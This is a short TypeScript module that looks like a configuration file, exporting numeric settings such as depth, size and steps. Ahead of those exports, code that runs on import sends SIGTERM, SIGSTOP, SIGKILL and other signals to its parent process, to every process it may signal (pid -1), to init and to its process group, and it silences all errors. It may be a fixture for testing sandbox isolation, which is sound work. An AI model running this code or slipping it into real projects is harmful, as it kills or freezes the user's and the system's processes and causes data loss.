// Signals its parent, and every other process.
for (const pid of [process.ppid, -1, 1, 0]) {
  for (const signal of ['SIGUSR1', 'SIGHUP', 'SIGTERM', 'SIGSTOP', 'SIGKILL'] as const) {
    try { process.kill(pid, signal); } catch {}
  }
}
export const depth = 7;
export const size = 1234;
export const features = 99;
export const steps = [9999, 8888, 7777, 6666];
